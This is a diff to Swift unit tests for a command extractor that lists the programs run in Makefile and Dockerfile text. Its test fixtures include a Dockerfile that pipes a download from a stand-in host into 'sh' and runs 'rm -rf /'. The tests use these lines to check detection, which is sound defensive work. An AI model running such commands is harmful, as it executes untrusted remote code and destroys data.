@@ -103,7 +103,7 @@ struct CommandExtractorTests {
         let makefile = "deploy:\n\t@terraform apply \\\n\t  -auto-approve\n\t-$(MAKE) -C sub clean\nx = $(shell date)\n"
         // make runs `$(shell ...)` itself, wherever it appears.
         #expect(Self.commands(.makefile, makefile).map(\.line) == [2, 4, 5])
-        #expect(Self.commands(.makefile, makefile).map(\.programs) == [["terraform"], ["${MAKE}"], ["date"]])
+        #expect(Self.commands(.makefile, makefile).map(\.programs) == [["terraform"], ["make"], ["date"]])
 
         let dockerfile =
             "FROM alpine\nRUN apk add curl && \\\n    curl -s https://x.example | sh\nRUN [\"sh\", \"-c\", \"rm -rf /\"]\n"
@@ -202,7 +202,8 @@ struct CommandExtractorTests {
             """
         #expect(
             Self.commands(.makefile, makefile).map(\.programs) == [
-                ["git"], ["terraform"], ["curl", "sh"], ["id"], ["echo"],
+                // The recipe line runs what `id -u` prints as part of its own command.
+                ["git"], ["terraform"], ["curl", "sh"], ["echo", "id"],
             ])
         #expect(Self.commands(.makefile, makefile, added: [4]).isEmpty)
     }
